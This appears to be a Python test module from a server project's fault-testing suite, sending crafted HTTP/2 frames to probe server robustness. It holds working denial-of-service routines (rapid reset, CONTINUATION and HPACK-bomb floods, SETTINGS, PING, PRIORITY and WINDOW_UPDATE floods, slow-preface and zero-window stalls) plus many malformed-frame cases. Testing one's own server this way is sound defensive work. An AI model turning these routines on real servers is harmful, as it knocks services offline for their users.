"""What one client can do to a server with HTTP/2, frame by frame."""

from __future__ import annotations

import itertools
import socket
from collections.abc import Iterable

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from tests.faults.attacker import Attacker, drip, pour, receive_all

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

Field = tuple[bytes, bytes]


def frames(*several: Frame) -> bytes:
    return b"".join(frame.serialize() for frame in several)


def fields(path: bytes = b"/hello", method: bytes = b"GET") -> list[Field]:
    return [(b":method", method), (b":scheme", b"https"), (b":authority", b"localhost"), (b":path", path)]


def headers(stream: int, request: Iterable[Field], *flags: str) -> HeadersFrame:
    """A request's head; its fields are sent literally, so that any number of heads can be made alone."""
    block = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*field) for field in request])
    return HeadersFrame(stream, block, flags=["END_HEADERS", *flags])


def request(stream: int, path: bytes = b"/hello") -> HeadersFrame:
    return headers(stream, fields(path), "END_STREAM")


def connect(attacker: Attacker, *first: Frame, settings: dict[int, int] | None = None) -> socket.socket:
    """Open an HTTP/2 connection, by ALPN where there is TLS, and send the first frames with the preface."""
    opening = PREFACE + frames(SettingsFrame(settings=settings or {}), *first)
    return attacker.connect(opening, alpn=("h2",), buffer=65536)


def data_after_the_answer(attacker: Attacker) -> None:
    sock = connect(attacker, headers(1, fields(method=b"POST")))
    receive_all(sock, 0.1)
    pour(sock, [frames(DataFrame(1, b"x"))])
    receive_all(sock, 0.1)


def path_that_is_not_ascii(attacker: Attacker) -> None:
    receive_all(connect(attacker, headers(1, fields(path=b"/\xff"), "END_STREAM")), 0.1)


def method_that_is_not_ascii(attacker: Attacker) -> None:
    receive_all(connect(attacker, headers(1, fields(method=b"G\xff"), "END_STREAM")), 0.1)


def connect_without_a_path(attacker: Attacker) -> None:
    bare = [(b":method", b"CONNECT"), (b":authority", b"localhost:1")]
    receive_all(connect(attacker, headers(1, bare)), 0.1)


def websocket_frame_with_the_connect(attacker: Attacker) -> None:
    extended = [*fields(b"/ws", b"CONNECT"), (b":protocol", b"websocket"), (b"sec-websocket-version", b"13")]
    sock = connect(attacker, headers(1, extended), DataFrame(1, b"\x81\x85" + bytes(4) + b"hello"))
    receive_all(sock, 0.1)


def preface_in_two_pieces(attacker: Attacker) -> None:
    sock = attacker.connect(PREFACE[:16])
    pour(sock, [PREFACE[16:] + frames(SettingsFrame(), request(1))])
    receive_all(sock, 0.2)


def slow_preface(attacker: Attacker) -> None:
    drip(attacker.connect(alpn=("h2",)), PREFACE + frames(SettingsFrame(), *(PingFrame(opaque_data=b"8" * 8),) * 50))


def rapid_reset(attacker: Attacker) -> None:
    sock = connect(attacker)
    pour(sock, (frames(request(stream), RstStreamFrame(stream, 8)) for stream in range(1, 2**31, 2)))


def rapid_reset_of_big_answers(attacker: Attacker) -> None:
    sock = connect(attacker)
    pour(sock, (frames(request(stream, b"/big"), RstStreamFrame(stream, 8)) for stream in range(1, 2**31, 2)))


def continuation_flood(attacker: Attacker) -> None:
    start = headers(1, fields())
    start.flags.discard("END_HEADERS")
    more = frames(ContinuationFrame(1, hpack.Encoder().encode([(b"x", b"y" * 1000)])))
    pour(connect(attacker, start), itertools.repeat(more))


def empty_continuation_flood(attacker: Attacker) -> None:
    start = headers(1, fields())
    start.flags.discard("END_HEADERS")
    pour(connect(attacker, start), itertools.repeat(frames(ContinuationFrame(1)) * 100))


def hpack_bomb(attacker: Attacker) -> None:
    encoder = hpack.Encoder()
    stored = encoder.encode([*fields(), (b"x", b"y" * 4000)])
    again = encoder.encode([*fields(), *[(b"x", b"y" * 4000)] * 3000])
    first = HeadersFrame(1, stored, flags=["END_HEADERS", "END_STREAM"])
    receive_all(connect(attacker, first, HeadersFrame(3, again, flags=["END_HEADERS", "END_STREAM"])), 0.2)


def settings_flood(attacker: Attacker) -> None:
    pour(connect(attacker), itertools.repeat(frames(SettingsFrame(settings={4: 65535})) * 1000))


def ping_flood(attacker: Attacker) -> None:
    pour(connect(attacker), itertools.repeat(frames(PingFrame(opaque_data=b"12345678")) * 1000))


def empty_data_flood(attacker: Attacker) -> None:
    sock = connect(attacker, headers(1, fields(b"/echo", b"POST")))
    pour(sock, itertools.repeat(frames(DataFrame(1, b"")) * 1000))


def priority_flood(attacker: Attacker) -> None:
    sock = connect(attacker)
    for first in range(1, 20_000, 2000):
        pour(sock, [frames(*(PriorityFrame(stream, stream_weight=1) for stream in range(first, first + 2000, 2)))])


def window_update_flood(attacker: Attacker) -> None:
    sock = connect(attacker, request(1, b"/big"))
    pour(sock, itertools.repeat(frames(WindowUpdateFrame(0, 1), WindowUpdateFrame(1, 1)) * 1000))


def window_that_stays_shut(attacker: Attacker) -> None:
    heads = [request(stream, b"/big") for stream in (1, 3, 5, 7)]
    receive_all(connect(attacker, *heads, settings={4: 0}), 0.3)


def not_reading_frames(attacker: Attacker) -> None:
    window = {4: 2**31 - 1}
    sock = connect(attacker, WindowUpdateFrame(0, 2**30), request(1, b"/big"), request(3, b"/big"), settings=window)
    sock.settimeout(0.3)
    sock.recv(1)


def too_many_streams(attacker: Attacker) -> None:
    receive_all(connect(attacker, *(headers(stream, fields(b"/echo", b"POST")) for stream in range(1, 1001, 2))), 0.3)


def slow_body_of_a_stream(attacker: Attacker) -> None:
    sock = connect(attacker, headers(1, fields(b"/echo", b"POST")))
    drip(sock, frames(DataFrame(1, b"x")) * 20)


def goodbye_in_the_middle(attacker: Attacker) -> None:
    sock = connect(attacker, request(1, b"/big"), GoAwayFrame(0, 1), request(3))
    receive_all(sock, 0.2)


def frames_that_make_no_sense(attacker: Attacker) -> None:
    trailers = headers(1, [(b"x", b"y")], "END_STREAM")
    for nonsense in (
        [request(2)],
        [request(3), request(1)],
        [request(1), trailers],
        [headers(1, fields(b"/echo", b"POST")), trailers, trailers],
        [headers(1, [*fields(b"/echo", b"POST"), (b"content-length", b"5")]), DataFrame(1, b"x", flags=["END_STREAM"])],
        [headers(1, [(b":method", b"GET")], "END_STREAM")],
        [headers(1, fields()[:3], "END_STREAM")],
        [headers(1, [*fields(), (b"connection", b"close")], "END_STREAM")],
        [headers(1, [*fields(), (b"Upper", b"x")], "END_STREAM")],
        [headers(1, [*fields(b"/?\xff"), (b"x", b"\xff\r\n")], "END_STREAM")],
        [headers(1, fields(b""), "END_STREAM")],
        [headers(1, fields(b"hello"), "END_STREAM")],
        [headers(1, fields(b"*", b"OPTIONS"), "END_STREAM")],
        [PriorityFrame(1, depends_on=1, stream_weight=1)],
        [request(1), PriorityFrame(1, depends_on=3, stream_weight=1), PriorityFrame(3, depends_on=1, stream_weight=1)],
        [RstStreamFrame(1, 8)],
        [WindowUpdateFrame(1, 1)],
        [request(1, b"/big"), WindowUpdateFrame(1, 2**31 - 1)],
        [SettingsFrame(settings={4: 2**31})],
        [SettingsFrame(settings={5: 1})],
        [DataFrame(1, b"x")],
        [ContinuationFrame(1, b"")],
    ):
        receive_all(connect(attacker, *nonsense), 0.03)
    receive_all(attacker.connect(PREFACE + b"\xff" * 1000, alpn=("h2",)), 0.03)
